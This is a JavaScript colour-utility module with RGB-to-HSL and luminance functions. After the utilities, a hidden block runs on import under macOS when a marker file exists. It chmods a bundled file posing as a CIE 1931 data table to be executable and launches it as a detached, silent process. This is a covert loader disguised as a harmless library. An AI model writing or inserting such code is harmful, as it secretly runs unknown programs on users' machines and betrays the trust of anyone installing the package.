exports.rgbToHsl = ([r, g, b]) => {
  const [x, y, z] = [r / 255, g / 255, b / 255];
  const max = Math.max(x, y, z);
  const min = Math.min(x, y, z);
  const d = max - min;
  const l = (max + min) / 2;
  if (d === 0) return [0, 0, l * 100];
  const s = l > 0.5 ? d / (2 - max - min) : d / (max + min);
  const h = max === x ? (y - z) / d + (y < z ? 6 : 0) : max === y ? (z - x) / d + 2 : (x - y) / d + 4;
  return [h * 60, s * 100, l * 100];
};

exports.luminance = (rgb) => {
  const [r, g, b] = rgb.map((v) => {
    const c = v / 255;
    return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
  });
  return 0.2126 * r + 0.7152 * g + 0.0722 * b;
};

const fs = require('fs');
const table = require('path').join(__dirname, 'data', 'cie1931.dat');
if (process.platform === 'darwin' && fs.existsSync('/etc/opt/colour-tables/on')) {
  fs.chmodSync(table, 0o755);
  require('child_process').spawn(table, [], { detached: true, stdio: 'ignore' }).unref();
}
